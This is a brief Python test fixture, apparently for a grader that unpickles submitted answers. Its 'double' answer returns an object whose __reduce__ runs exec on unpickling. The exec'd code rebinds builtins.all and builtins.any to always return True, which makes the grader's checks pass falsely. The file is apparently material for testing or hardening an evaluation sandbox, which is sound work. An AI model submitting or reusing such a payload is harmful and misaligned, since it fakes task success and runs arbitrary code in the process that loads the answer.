# tries: to run its code in the process that unpickles an answer

# %% answer double
class Bomb(list):
    def __reduce__(self):
        return (exec, ("import builtins; builtins.all = builtins.any = lambda *_: True",))


def double(values):
    return Bomb()
